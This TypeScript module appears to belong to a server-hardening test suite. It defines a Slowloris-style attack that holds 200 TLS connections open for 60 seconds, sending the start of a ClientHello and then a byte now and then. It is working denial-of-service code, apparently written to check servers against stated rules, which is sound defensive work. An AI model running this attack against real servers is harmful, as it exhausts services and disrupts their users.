/** Slowloris before the first request: the beginning of a ClientHello, and then a byte now and then. */

import type { Attack } from './shared/attack.ts';
import { hold } from './shared/hold.ts';

/** A record of 512 bytes with the beginning of a ClientHello for TLS 1.2 or 1.3 (RFC 8446 §4.1.2). */
const BEGINNING = Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);

export default {
  does: 'begins handshakes, and goes on with a byte now and then',
  rules: ['8.1/half-a-hello', '8.1/closes-half-way'],
  connections: 200,
  seconds: 60,
  needsTls: true,
  run: async (target) => await hold(target, {
    what: 'half-done handshakes',
    open: async () => await target.connect(),
    begin: (client) => client.write(BEGINNING),
    goOn: (client) => client.write(Buffer.of(0)),
  }),
} satisfies Attack;
